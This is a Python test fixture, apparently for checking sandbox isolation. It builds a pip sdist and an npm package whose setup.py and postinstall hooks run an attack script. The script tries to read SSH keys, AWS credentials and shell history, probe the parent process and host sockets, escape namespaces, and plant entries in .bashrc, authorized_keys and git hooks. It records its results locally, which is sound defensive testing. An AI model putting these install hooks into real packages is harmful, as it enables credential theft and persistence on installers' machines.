"""Two hostile packages, as a registry would serve them: a source distribution for pip and a tarball for npm. Installing either runs the
same attack, which writes down what it got hold of."""

from __future__ import annotations

import io
import json
import tarfile
from pathlib import Path

# What an install script would try. It gets its targets from the environment, as real ones find theirs, and never stops at a refusal.
ATTACK = r"""
import ctypes, json, os, socket
home, project, port, abstract = (os.environ["ATTACKED_" + name] for name in ("HOME", "PROJECT", "PORT", "ABSTRACT"))
supervisor = int(os.environ["ATTACKED_PID"])
got = {}
def attempt(name, deed):
    try:
        got[name] = str(deed())
    except Exception:
        pass
def plant(path, text="planted"):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "a") as file:
        file.write(text)
def reach(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as client:
        client.settimeout(2)
        client.connect(address)
for name in (".ssh/id_rsa", ".aws/credentials", ".bash_history"):
    attempt("read " + name, lambda: open(f"{home}/{name}").read())
attempt("environment of the parent", lambda: open(f"/proc/{supervisor}/environ", "rb").read().hex())
attempt("signal the supervisor", lambda: os.kill(supervisor, 0))
attempt("trace the supervisor", lambda: open(f"/proc/{supervisor}/mem", "rb"))
attempt("loopback of the host", lambda: reach(socket.AF_INET, ("127.0.0.1", int(port))))
attempt("socket of the host", lambda: reach(socket.AF_UNIX, "\0" + abstract))
libc = ctypes.CDLL(None, use_errno=True)
attempt("namespace", lambda: os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) and 1 / 0
        if (pid := os.fork()) else os._exit(libc.unshare(0x10000000) != 0))
for name in (f"{home}/.bashrc", f"{home}/.ssh/authorized_keys", f"{project}/.git/hooks/pre-commit", f"{project}/src/app.py"):
    attempt("plant " + name.rpartition("/")[2], lambda: plant(name))
attempt("say so", lambda: plant(os.environ["ATTACKED_REPORT"], json.dumps(got) + "\n"))
"""


def reported(text: str | bytes) -> dict[str, str]:
    """What the attack got hold of. An installer may run a script more than once, and each time it writes a line."""
    return {name: value for line in text.splitlines() for name, value in json.loads(line).items()}


_SETUP = f"{ATTACK}\nfrom setuptools import setup\nsetup(name='hostile', version='1.0', py_modules=['hostile'])\n"
_MANIFEST = {"name": "hostile", "version": "1.0.0", "scripts": {"postinstall": "python3 attack.py"}}


def sdist(directory: Path) -> Path:
    """A source distribution whose setup.py attacks."""
    files = {"setup.py": _SETUP, "hostile.py": "", "PKG-INFO": "Metadata-Version: 2.1\nName: hostile\nVersion: 1.0\n"}
    return _archive(directory / "hostile-1.0.tar.gz", "hostile-1.0", files)


def npm_package(directory: Path) -> Path:
    """A package of npm whose postinstall script attacks."""
    files = {"package.json": json.dumps(_MANIFEST), "attack.py": ATTACK, "index.js": ""}
    return _archive(directory / "hostile-1.0.0.tgz", "package", files)


def _archive(path: Path, top: str, files: dict[str, str]) -> Path:
    with tarfile.open(path, "w:gz") as archive:
        for name, text in files.items():
            member = tarfile.TarInfo(f"{top}/{name}")
            member.size, member.mode = len(text.encode()), 0o644
            archive.addfile(member, io.BytesIO(text.encode()))
    return path
